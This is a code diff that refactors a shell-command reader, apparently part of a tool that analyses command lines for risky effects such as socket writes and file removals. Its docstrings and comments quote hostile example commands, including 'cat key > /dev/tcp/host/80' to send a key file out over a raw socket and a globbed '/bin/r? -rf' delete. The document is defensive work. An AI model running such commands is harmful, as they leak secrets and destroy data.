@@ -224,11 +224,7 @@ class _Reader(Reader):
             nesting=nesting,
             captured=at.captured or bool(writes),
         )
-        sockets = [target for _, target in writes if names.is_socket(target.text)]
-        if sockets:
-            reached = tuple(Arg(each, sockets[0].known) for each in sockets[0].text.split("/")[3:5])
-            fed = (*at.fed_by, *pipes.read_files(command), command.program)
-            self.keep(Run("nc", reached, piped_from=(*at.piped_from, command.program), fed_by=fed, via=at.via))
+        self._reach_socket(command, writes, at)
         if not command.path:
             if writes:
                 self.keep(Run("", writes=writes, directory=here.directory, remote=at.remote, via=at.via))
@@ -252,6 +248,14 @@ class _Reader(Reader):
         for reading in readings:
             self.simple(reading, here, writes, environment, wrappers)
         self.variables.take_back(before)
+
+    def _reach_socket(self, command: Command, writes: tuple[tuple[WriteMode, Arg], ...], at: At) -> None:
+        """`cat key > /dev/tcp/host/80`: the shell itself sends what is written there."""
+        sockets = [target for _, target in writes if names.is_socket(target.text)]
+        if sockets:
+            reached = tuple(Arg(each, sockets[0].known) for each in sockets[0].text.split("/")[3:5])
+            fed = (*at.fed_by, *pipes.read_files(command), command.program)
+            self.keep(Run("nc", reached, piped_from=(*at.piped_from, command.program), fed_by=fed, via=at.via))
 
     def _go(self, command: Command, nesting: tuple[str, ...]) -> None:
         """Follow a `cd` whose target the line itself has set."""
@@ -311,30 +315,15 @@ class _Reader(Reader):
         if "?" in program or "*" in program:  # `/bin/r? -rf x`: a pattern that becomes a program
             program = ""
         if program in _REMOVES:
-            if not self.work.targets(rest):
-                rest, self.cut = rest[:SOME], True
-            rest = tuple(each for arg in rest for each in self._listed(arg, at))
+            rest = self._targets(rest, at)
         environment = (*environment, *((entry.name, names.arg(entry.value)) for entry in resolved.assignments))
         directory = names.joined(at.directory, resolved.directory.text if resolved.directory is not None else "")
-        run = Run(
-            program=program,
-            args=rest,
+        run = replace(
+            _run_at(at, program, rest),
             writes=writes,
             directory=directory,
-            stdin=at.stdin,
-            more_input=at.more_input,
-            piped_from=at.piped_from,
-            found=at.found,
             environment=environment,
-            remote=at.remote,
-            mounts=at.mounts,
-            fed_by=at.fed_by,
-            container=at.container,
             via=(*at.via, *resolved.wrappers),
-            after_failure=at.after_failure,
-            may_fail=at.may_fail,
-            followed_by=at.followed_by,
-            captured=at.captured,
         )
         if program in statement_files.CLIENTS:
             run = self.scripts.with_statements(run, at.directory)
@@ -366,6 +355,12 @@ class _Reader(Reader):
         in_turn.within(self, run, at)
         in_turn.files(self, run, resolved.path, at)
 
+    def _targets(self, args: tuple[Arg, ...], at: At) -> tuple[Arg, ...]:
+        """What a program removes, with what `$(…)` lists; only some of very many."""
+        if not self.work.targets(args):
+            args, self.cut = args[:SOME], True
+        return tuple(each for arg in args for each in self._listed(arg, at))
+
     def _listed(self, arg: Arg, at: At) -> list[Arg]:
         """`rm $(grep -rl x docs)`: what a program that only lists prints."""
         inside = None if arg.known or at.depth > _DEEPEST else printing.inside(arg.text)
@@ -382,3 +377,23 @@ class _Reader(Reader):
             self.keep(Run("", (Arg(text, False),), directory=at.directory, remote=at.remote, via=at.via))
             return
         self.line(text, replace(at, stdin=at.stdin, nesting=at.nesting))
+
+
+def _run_at(at: At, program: str, args: tuple[Arg, ...]) -> Run:
+    """A run of a program where the line has come to."""
+    return Run(
+        program=program,
+        args=args,
+        stdin=at.stdin,
+        more_input=at.more_input,
+        piped_from=at.piped_from,
+        found=at.found,
+        remote=at.remote,
+        mounts=at.mounts,
+        fed_by=at.fed_by,
+        container=at.container,
+        after_failure=at.after_failure,
+        may_fail=at.may_fail,
+        followed_by=at.followed_by,
+        captured=at.captured,
+    )
